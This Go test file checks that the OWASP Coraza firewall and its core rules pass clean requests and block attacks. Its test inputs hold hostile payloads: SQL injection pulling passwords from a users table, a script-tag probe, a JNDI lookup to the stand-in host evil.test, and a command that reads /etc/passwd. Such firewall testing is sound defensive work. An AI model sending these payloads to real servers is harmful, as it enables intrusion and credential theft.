package main

import (
	"strings"
	"testing"
)

// TestCorpus_Coraza has the web application firewall of OWASP judge requests: by one rule
// of ours, and by its core rules, all of them.
func TestCorpus_Coraza(t *testing.T) {
	t.Parallel()
	testGuests(t, startGuests(t, corazaCases), corazaCases)
}

// corazaLimits are what the firewall takes: it reads some hundred regular expressions when
// it is configured, and runs them over every request.
const corazaLimits = "limits: {memory: 512MiB, cpu: 20s, request_cpu: 60s, start: 2m, wall: 30s}, hold_headers: true"

var corazaCases = []guestCase{
	{guest: "coraza", name: "rule", plugin: corazaLimits + `, config: {directives_map: {default: ["SecRuleEngine On", "SecRule ARGS:id \"@contains or 1\" \"id:102,phase:1,t:lowercase,deny,status:403\""]}, default_directives: default}`,
		test: func(t *testing.T, a *asker) {
			expect(t, "clean: status", a.do(t, "GET", "/", "").status, 200)
			got := a.do(t, "GET", "/?id=1%27%20OR%201=1", "")
			expect(t, "injection: status", got.status, 403)
			expect(t, "injection: upstream", got.header.Get("X-Upstream"), "")
		}},
	{guest: "coraza", name: "core-rules", plugin: corazaLimits + `, config: {directives_map: {default: ["Include @demo-conf", "Include @crs-setup-conf", "SecRuleEngine On", "Include @owasp_crs/*.conf"]}, default_directives: default}`,
		test: func(t *testing.T, a *asker) {
			browser := []string{"User-Agent", "Mozilla/5.0 (X11; Linux x86_64)", "Accept", "*/*"}
			form := append([]string{"Content-Type", "application/x-www-form-urlencoded"}, browser...)
			for _, tt := range []struct {
				what, method, target, body string
				fields                     []string
				status                     int
			}{
				{"clean query", "GET", "/search?q=a+nice+book&page=2", "", browser, 200},
				{"clean form", "POST", "/form", "name=Ada+Lovelace&town=London", form, 200},
				{"long clean form", "POST", "/form", "text=" + strings.Repeat("a+harmless+word+", 2000), form, 200},
				{"injection in the query", "GET", "/?id=1%27%20OR%20%271%27=%271%27%20UNION%20SELECT%20password%20FROM%20users--", "", browser, 403},
				{"script in the query", "GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", "", browser, 403},
				{"injection in a field", "GET", "/", "", append([]string{"X-Forwarded-Host", "x", "Referer", "${jndi:ldap://evil.test/a}"}, browser...), 403},
				{"scanner", "GET", "/", "", []string{"User-Agent", "sqlmap/1.7", "Accept", "*/*"}, 403},
				{"injection in the body", "POST", "/form", "name=1%27%20OR%20%271%27=%271%27%20UNION%20SELECT%20password%20FROM%20users--", form, 403},
				{"command in the body", "POST", "/form", "file=;cat%20/etc/passwd", form, 403},
			} {
				got := a.do(t, tt.method, tt.target, tt.body, tt.fields...)
				expect(t, tt.what+": status", got.status, tt.status)
				if tt.status == 200 {
					expect(t, tt.what+": body is whole", got.seen.Body == tt.body, true)
				} else {
					expect(t, tt.what+": upstream", got.header.Get("X-Upstream"), "")
				}
			}
		}},
}
